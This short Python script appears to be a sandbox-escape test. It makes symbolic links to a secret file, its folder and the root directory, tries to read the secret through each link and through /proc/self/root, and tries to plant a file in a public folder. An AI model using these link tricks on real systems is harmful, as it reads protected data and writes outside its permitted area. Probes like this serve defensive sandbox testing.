# Reaches out of the work folder through symbolic links.
import os

path = TARGET["secret_file"]
os.symlink(path, "to_file")
os.symlink(os.path.dirname(path), "to_folder")
os.symlink("/", "to_root")
os.symlink("to_root", "to_link")
for way in ("to_file", "to_folder/secret.txt", "to_root" + path, "to_link" + path, "to_root/proc/self/root" + path):
    try:
        with open(way) as file:
            print(file.read())
    except OSError as error:
        print(way, error)
try:
    with open("to_folder/public/planted", "w") as file:
        file.write("planted")
except OSError as error:
    print(error)
